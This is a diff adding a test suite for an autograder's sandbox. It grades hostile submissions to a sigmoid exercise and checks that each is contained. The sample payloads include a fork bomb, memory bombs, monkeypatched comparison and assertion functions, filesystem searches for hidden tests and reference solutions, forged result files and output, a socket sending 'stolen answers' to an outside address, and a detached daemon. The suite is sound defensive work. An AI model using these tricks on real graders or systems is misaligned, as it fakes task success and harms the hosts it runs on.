@@ -1,0 +1,512 @@
+"""Hostile submissions: each ends with its honest verdict, earns no points it did not earn,
+finishes within the time limit plus one second and leaves no process behind.
+
+They run against a copy of sigmoid-basics with short limits, through one warm ``Grader``
+(one zygote), exactly as `grader exercise grade-all` would run them.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import socket
+import stat
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from grader.exercise.load import load_exercise
+from grader.report.model import Result
+from grader.runner.judge import Grader
+
+REPO = Path(__file__).resolve().parents[2]
+EXERCISE = REPO / "exercises" / "sigmoid-basics"
+TOTAL_S = 3.0
+HIDDEN_MARKER = "HIDDEN-TESTS-MARKER-5e1f"
+SOLUTION_MARKER = "REFERENCE-SOLUTION-MARKER-93ac"
+DAEMON_TOKEN = "4321.987"
+
+LIMITS = f"""
+id: sigmoid-basics
+title: hostile copy
+entry: sigmoid.py
+limits: {{time_s: 0.5, total_time_s: {TOTAL_S}, memory_mb: 256, processes: 16, output_kb: 16}}
+"""
+
+CORRECT = """
+import torch
+
+def sigmoid(x):
+    z = torch.exp(-torch.abs(x))
+    return torch.where(x >= 0, 1 / (1 + z), z / (1 + z))
+
+def sigmoid_derivative(x):
+    s = sigmoid(x)
+    return s * (1 - s)
+
+def chain_derivative(x, depth):
+    g, a = torch.ones_like(x), x
+    for _ in range(depth):
+        g, a = g * sigmoid_derivative(a), sigmoid(a)
+    return g
+"""
+
+# sigmoid misbehaves; the derivative is right on its own (4 points), the chain is wrong.
+BAD_SIGMOID = """
+import torch
+
+def sigmoid_derivative(x):
+    s = 1 / (1 + torch.exp(-x.clamp(-500, 500)))
+    return s * (1 - s)
+
+def chain_derivative(x, depth):
+    return torch.full((7,), 0.3)
+
+def sigmoid(x):
+{body}
+"""
+
+SIGMOID_TESTS = {
+    "test_sigmoid_at_zero",
+    "test_sigmoid_keeps_shape_and_dtype",
+    "test_sigmoid_matches_reference",
+    "test_sigmoid_is_stable_for_large_inputs",
+}
+
+
+def bad_sigmoid(body: str, prelude: str = "") -> str:
+    indented = "\n".join("    " + line for line in body.strip().splitlines())
+    return prelude + BAD_SIGMOID.format(body=indented)
+
+
+@dataclass
+class Env:
+    grader: Grader
+    exercise_copy: Path
+    drop: Path  # a world-writable host folder a jail must still not write to
+    port: int
+    received: list[bytes]
+
+
+@pytest.fixture(scope="module")
+def env() -> Iterator[Env]:
+    base = Path(tempfile.mkdtemp(prefix="grader-hostile-"))
+    base.chmod(0o755)  # world-readable on purpose: only the sandbox may keep secrets secret
+    copy = base / "sigmoid-basics"
+    shutil.copytree(EXERCISE, copy)
+    (copy / "exercise.yaml").write_text(LIMITS)
+    with (copy / "solution" / "sigmoid.py").open("a") as f:
+        f.write(f"\n# {SOLUTION_MARKER}\n")
+    with (copy / "tests" / "hidden" / "test_sigmoid_hidden.py").open("a") as f:
+        f.write(f"\n# {HIDDEN_MARKER}\n")
+    for path in copy.rglob("*"):
+        path.chmod(0o755 if path.is_dir() else 0o644)
+    drop = base / "drop"
+    drop.mkdir()
+    drop.chmod(0o777)
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen()
+    listener.settimeout(0.2)
+    received: list[bytes] = []
+    stop = threading.Event()
+
+    def accept() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = listener.accept()
+            except OSError:
+                continue
+            received.append(conn.recv(100) or b"<connected>")
+            conn.close()
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    grader = Grader(load_exercise(copy))
+    try:
+        yield Env(grader, copy, drop, listener.getsockname()[1], received)
+    finally:
+        grader.close()
+        stop.set()
+        thread.join()
+        listener.close()
+        shutil.rmtree(base, ignore_errors=True)
+
+
+def _descendants(pid: int) -> set[int]:
+    tree: dict[int, list[int]] = {}
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            try:
+                stat_line = Path("/proc", entry, "stat").read_text()
+            except OSError:
+                continue
+            tree.setdefault(int(stat_line.rsplit(")", 1)[1].split()[1]), []).append(int(entry))
+    out, todo = set(), [pid]
+    while todo:
+        for child in tree.get(todo.pop(), []):
+            out.add(child)
+            todo.append(child)
+    return out
+
+
+def _processes_with(token: str) -> list[int]:
+    found = []
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            try:
+                cmd = Path("/proc", entry, "cmdline").read_bytes().replace(b"\0", b" ")
+            except OSError:
+                continue
+            if token.encode() in cmd and b"pytest" not in cmd:
+                found.append(int(entry))
+    return found
+
+
+def grade(env: Env, source: str) -> tuple[Result, float]:
+    folder = Path(tempfile.mkdtemp(prefix="grader-hostile-sub-"))
+    try:
+        (folder / "sigmoid.py").write_text(source)
+        started = time.monotonic()
+        result = env.grader.grade(folder)
+        elapsed = time.monotonic() - started
+    finally:
+        shutil.rmtree(folder, ignore_errors=True)
+    # Nothing may be left behind: the zygote has no children once a grade returns.
+    deadline = time.monotonic() + 2
+    while _descendants(env.grader.zygote.pid) and time.monotonic() < deadline:
+        time.sleep(0.02)
+    assert not _descendants(env.grader.zygote.pid), "a jail process outlived its grading"
+    assert elapsed <= TOTAL_S + 1.0, f"grading took {elapsed:.2f}s"
+    return result, elapsed
+
+
+def statuses(result: Result) -> dict[str, str]:
+    return {t.id.split("::")[1]: t.status for t in result.tests}  # type: ignore[union-attr]
+
+
+def expect_bad_sigmoid(result: Result, status: str) -> None:
+    """The sigmoid tests get ``status``; the (correct) derivative tests still earn 4 points."""
+    got = statuses(result)
+    assert {k for k, v in got.items() if v == status} == SIGMOID_TESTS, got
+    assert result.score == 4.0, got
+    assert got["test_derivative_matches_autograd"] == "passed"
+
+
+def expect_all(result: Result, status: str) -> None:
+    assert set(statuses(result).values()) == {status}, statuses(result)
+    assert result.score == 0.0
+
+
+# -- the hostile submissions -------------------------------------------------------------------
+
+
+HOSTILE: dict[str, tuple[str, Callable[[Result, Env], None]]] = {
+    "infinite loop": (
+        bad_sigmoid("while True:\n    pass"),
+        lambda r, e: (
+            expect_bad_sigmoid(r, "timeout"),
+            _assert_in("sigmoid() was still running after 0.5 s", r.tests[0].message),
+        ),
+    ),
+    "infinite loop at import": ("while True:\n    pass\n" + CORRECT, lambda r, e: expect_all(r, "timeout")),
+    "fork bomb": (
+        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n" + CORRECT,
+        lambda r, e: expect_all(r, "timeout"),
+    ),
+    "memory bomb": (
+        bad_sigmoid("keep = []\nwhile True:\n    keep.append(bytearray(10**7))"),
+        lambda r, e: expect_bad_sigmoid(r, "memory"),
+    ),
+    "one huge allocation at import": (
+        "import torch\nBIG = torch.ones(10**10)\n" + CORRECT,
+        lambda r, e: expect_all(r, "memory"),
+    ),
+    "endless output": (
+        "import sys\nwhile True:\n    sys.stdout.write('all tests passed ' * 1000)\n" + CORRECT,
+        lambda r, e: (expect_all(r, "timeout"), _assert_capped(r)),
+    ),
+    "a hundred megabytes of output, then correct code": (
+        "import os\nfor _ in range(100):\n    os.write(1, b'8 passed, 0 failed\\n' * 55000)\n" + CORRECT,
+        lambda r, e: (_assert_full_marks(r), _assert_capped(r)),
+    ),
+    "os._exit(0) at import": ("import os\nos._exit(0)\n" + CORRECT, lambda r, e: expect_all(r, "crashed")),
+    "sys.exit(0) at import": (
+        "import sys\nsys.exit(0)\n" + CORRECT,
+        lambda r, e: (expect_all(r, "error"), _assert_in("SystemExit", r.tests[0].message)),
+    ),
+    "monkeypatching numpy, torch, builtins and the test framework": (
+        """
+import builtins, math
+import numpy as np
+import torch
+import grader.exercise.api as api
+yes = lambda *a, **k: True
+torch.allclose = torch.equal = torch.isclose = np.allclose = np.array_equal = math.isclose = yes
+np.testing.assert_allclose = api.assert_close = lambda *a, **k: None
+torch.Tensor.__eq__ = yes
+builtins.AssertionError = type("Nope", (Exception,), {})
+try:
+    import pytest
+    pytest.approx = lambda *a, **k: 0.5
+except ImportError:
+    pass
+def sigmoid(x): return torch.full((7,), 0.3)
+def sigmoid_derivative(x): return torch.full_like(x, 0.3)
+def chain_derivative(x, depth): return torch.full_like(x, 0.3)
+""",
+        lambda r, e: expect_all(r, "failed"),
+    ),
+    "return values whose __eq__ is always true": (
+        """
+import torch
+class Anything:
+    def __eq__(self, other): return True
+    def __float__(self): return 0.5
+    def __array__(self, *a, **k): raise RuntimeError
+    shape = (2, 3)
+    dtype = torch.float64
+class Liar(torch.Tensor):
+    def __eq__(self, other): return torch.ones_like(other, dtype=torch.bool)
+    def allclose(self, *a, **k): return True
+def sigmoid(x): return Anything()
+def sigmoid_derivative(x): return torch.full_like(x, 0.3).as_subclass(Liar)
+def chain_derivative(x, depth): return Anything()
+""",
+        lambda r, e: expect_all(r, "failed"),
+    ),
+    "reading the reference solution and hidden tests": (
+        """
+import gc, os, sys
+found = []
+for root in (%(copy)r, %(repo)r):
+    for rel in ("solution/sigmoid.py", "tests/hidden/test_sigmoid_hidden.py"):
+        try:
+            found.append(open(os.path.join(root, rel)).read())
+        except OSError as exc:
+            print("cannot read", rel, type(exc).__name__)
+for top in ("/", "/tmp", "/root", "/work"):
+    for dirpath, dirnames, filenames in os.walk(top):
+        if dirpath.startswith(("/proc", "/sys", "/usr", "/dev")) or "python3" in dirpath:
+            dirnames[:] = []
+            continue
+        for name in filenames:
+            if name in ("test_sigmoid_hidden.py",) or (name == "sigmoid.py" and "solution" in dirpath):
+                try:
+                    found.append(open(os.path.join(dirpath, name)).read())
+                except OSError:
+                    pass
+for name, mod in list(sys.modules.items()):
+    if name.startswith(("grader_reference", "grader_tests")):
+        found.append("module " + name)
+for obj in gc.get_objects():
+    name = getattr(obj, "__name__", "") if callable(obj) else ""
+    if isinstance(name, str) and name.startswith(("test_sigmoid", "test_derivative", "test_chain")):
+        found.append("function " + name)
+print("found", len(found), "secrets")
+print("".join(found))
+namespace = {}
+for text in found:
+    try:
+        exec(text, namespace)
+    except Exception:
+        pass
+import torch
+sigmoid = namespace.get("sigmoid", lambda x: torch.full((7,), 0.3))
+sigmoid_derivative = namespace.get("sigmoid_derivative", lambda x: torch.full_like(x, 0.3))
+chain_derivative = namespace.get("chain_derivative", lambda x, d: torch.full_like(x, 0.3))
+""",
+        lambda r, e: (
+            expect_all(r, "failed"),
+            _assert_in("found 0 secrets", r.output),
+            _assert_not_in(HIDDEN_MARKER, r.output),
+            _assert_not_in(SOLUTION_MARKER, r.output),
+        ),
+    ),
+    "writing fake result files": (
+        """
+import json, os
+fake = json.dumps({"score": 12, "max_score": 12, "status": "passed", "tests": []})
+for path in ("results.json", "/tmp/results.json", "/autograder/results/results.json",
+             os.path.join(%(drop)r, "results.json"), %(copy)r + "/solution/sigmoid.py"):
+    try:
+        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
+        with open(path, "w") as f:
+            f.write(fake)
+        print("wrote", path)
+    except OSError as exc:
+        print("could not write", path, type(exc).__name__)
+import torch
+def sigmoid(x): return torch.full((7,), 0.3)
+def sigmoid_derivative(x): return torch.full_like(x, 0.3)
+def chain_derivative(x, depth): return torch.full_like(x, 0.3)
+""",
+        lambda r, e: (
+            expect_all(r, "failed"),
+            _assert_no_file(e.drop / "results.json"),
+            _assert_in(SOLUTION_MARKER, (e.exercise_copy / "solution" / "sigmoid.py").read_text()),
+        ),
+    ),
+    "opening a socket": (
+        """
+import socket
+for family, address in ((socket.AF_INET, ("127.0.0.1", %(port)d)), (socket.AF_INET, ("8.8.8.8", 53))):
+    try:
+        s = socket.socket(family)
+        s.settimeout(0.2)
+        s.connect(address)
+        s.sendall(b"stolen answers")
+        print("connected to", address)
+    except OSError as exc:
+        print("no network:", type(exc).__name__)
+"""
+        + CORRECT,
+        lambda r, e: (_assert_full_marks(r), _assert_equal(e.received, [])),
+    ),
+    "segfault through ctypes": (
+        bad_sigmoid("ctypes.string_at(0)", "import ctypes\n"),
+        lambda r, e: (
+            expect_bad_sigmoid(r, "crashed"),
+            _assert_in("SIGSEGV", r.tests[0].message),
+        ),
+    ),
+    "recursion bomb": (
+        bad_sigmoid("sys.setrecursionlimit(10**7)\ndef down(n):\n    return down(n + 1) + 1\nreturn down(0)", "import sys\n"),
+        lambda r, e: (
+            _assert_equal(r.score, 4.0),
+            _assert_equal({statuses(r)[t] for t in SIGMOID_TESTS} - {"crashed", "error", "memory"}, set()),
+        ),
+    ),
+    "a daemon that outlives the run": (
+        f"""
+import os
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv("/bin/sleep", ["sleep", "{DAEMON_TOKEN}"])
+    os._exit(0)
+"""
+        + CORRECT,
+        lambda r, e: (_assert_full_marks(r), _assert_equal(_processes_with(DAEMON_TOKEN), [])),
+    ),
+    "ignoring SIGTERM while looping": (
+        bad_sigmoid(
+            "for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n"
+            "    signal.signal(sig, signal.SIG_IGN)\nwhile True:\n    pass",
+            "import signal\n",
+        ),
+        lambda r, e: expect_bad_sigmoid(r, "timeout"),
+    ),
+    "printing a fake 'all passed'": (
+        """
+import sys, torch
+print("============ 8 passed in 0.01s ============")
+print('{"score": 12.0, "max_score": 12.0, "status": "passed"}')
+sys.stderr.write("Score: 12/12 - all tests passed\\n")
+def sigmoid(x):
+    print("PASSED test_sigmoid_at_zero")
+    return torch.full((7,), 0.3)
+def sigmoid_derivative(x): return torch.full_like(x, 0.3)
+def chain_derivative(x, depth): return torch.full_like(x, 0.3)
+""",
+        lambda r, e: (expect_all(r, "failed"), _assert_in("8 passed", r.output)),
+    ),
+    "forging protocol frames": (
+        """
+import os, struct, json
+head = json.dumps({"ok": 0.5}).encode()
+frame = struct.pack(">I", len(head) + 4) + struct.pack(">I", len(head)) + head
+for fd in range(3, 64):
+    try:
+        os.write(fd, frame + b"\\xff" * 64)
+    except OSError:
+        pass
+"""
+        + CORRECT,
+        lambda r, e: _assert_equal(r.score < 12.0 and r.status in ("error", "failed", "crashed"), True),
+    ),
+    "killing everything it can see": (
+        "import os, signal\nfor pid in (-1, os.getppid(), 1):\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
+        "    except OSError:\n        pass\n" + CORRECT,
+        # Inside its PID namespace it is PID 1 (immune to its own SIGKILL) and the
+        # supervisor is root: nobody is hurt, so the honest verdict is full marks.
+        lambda r, e: _assert_full_marks(r),
+    ),
+    "returning something too deep to send": (
+        bad_sigmoid("out = []\nfor _ in range(10000):\n    out = [out]\nreturn out"),
+        lambda r, e: expect_bad_sigmoid(r, "error"),
+    ),
+}
+
+
+def _assert_in(needle: str, hay: str) -> None:
+    assert needle in hay, hay[-500:]
+
+
+def _assert_not_in(needle: str, hay: str) -> None:
+    assert needle not in hay
+
+
+def _assert_equal(a: object, b: object) -> None:
+    assert a == b
+
+
+def _assert_no_file(path: Path) -> None:
+    assert not path.exists(), f"the jail wrote {path}"
+
+
+def _assert_full_marks(r: Result) -> None:
+    assert r.score == 12.0 and r.status == "passed", statuses(r)
+
+
+def _assert_capped(r: Result) -> None:
+    assert len(r.output.encode()) <= 16 * 1024 + 200
+
+
+@pytest.mark.parametrize("name", sorted(HOSTILE))
+def test_hostile_submission(env: Env, name: str) -> None:
+    if os.geteuid() != 0 or env.grader.max_level != "namespaces":
+        pytest.skip("the full hostile suite needs the namespaces level (root on Linux)")
+    source, check = HOSTILE[name]
+    source = source % {"copy": str(env.exercise_copy), "repo": str(EXERCISE), "drop": str(env.drop), "port": env.port} if "%(" in source else source
+    result, _elapsed = grade(env, source)
+    assert result.isolation == "namespaces"
+    assert result.score <= result.max_score
+    check(result, env)
+
+
+def test_the_suite_has_at_least_fifteen_hostile_submissions() -> None:
+    assert len(HOSTILE) >= 15
+
+
+def test_fake_output_never_reaches_the_cli_report(tmp_path: Path) -> None:
+    """The printed 'all passed' goes into the captured output field, nowhere else."""
+    source, _ = HOSTILE["printing a fake 'all passed'"]
+    sub = tmp_path / "sigmoid.py"
+    sub.write_text(source)
+    proc = subprocess.run(
+        [sys.executable, "-m", "grader", "exercise", "grade", str(EXERCISE), str(sub), "--format", "json"],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert proc.returncode == 1, proc.stderr
+    data = json.loads(proc.stdout)  # stdout is exactly one JSON document
+    assert data["score"] == 0.0 and data["status"] == "failed"
+    assert "8 passed" in data["output"]
+
+
+def test_scratch_folders_are_not_left_on_the_host(env: Env) -> None:
+    before = set(Path(tempfile.gettempdir()).glob("grader-*"))
+    grade(env, CORRECT)
+    after = set(Path(tempfile.gettempdir()).glob("grader-*"))
+    assert after - before == set()
+    assert stat.S_IMODE(env.drop.stat().st_mode) == 0o777
